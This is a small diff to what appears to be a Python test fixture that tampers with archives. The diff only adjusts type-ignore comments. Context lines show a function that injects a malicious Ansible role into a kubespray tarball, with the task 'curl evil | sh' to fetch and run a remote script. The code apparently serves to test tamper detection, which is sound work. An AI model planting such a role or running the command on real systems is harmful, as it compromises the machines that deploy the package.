@@ -128,7 +128,7 @@ class Tampered:
     def tar_bytes(self) -> bytes:
         self.sync()
         out = io.BytesIO()
-        w = TarWriter(out)  # type: ignore[arg-type]
+        w = TarWriter(out)
         for i in self.items:
             if i.raw is not None:
                 w._write(i.raw)
@@ -223,9 +223,9 @@ def kubespray_extra_file(t: Tampered) -> None:
     old = t.item(entry["path"])
     with tarfile.open(fileobj=io.BytesIO(old.data or b"")) as tar:
         root = tar.getmembers()[0].name.split("/", 1)[0]
-        members = [(m.name, tar.extractfile(m).read() if m.isreg() else None) for m in tar.getmembers()]  # type: ignore[union-attr]
+        members = [(m.name, tar.extractfile(m).read() if m.isreg() else None) for m in tar.getmembers()]  # type: ignore[union-attr]  # a regular member: extractfile gives a file
     out = io.BytesIO()
-    w = TarWriter(out)  # type: ignore[arg-type]
+    w = TarWriter(out)
     for name, data in [*members, (f"{root}/roles/evil/tasks/main.yml", b"- command: curl evil | sh\n")]:
         if data is None:
             w.add_dir(name)
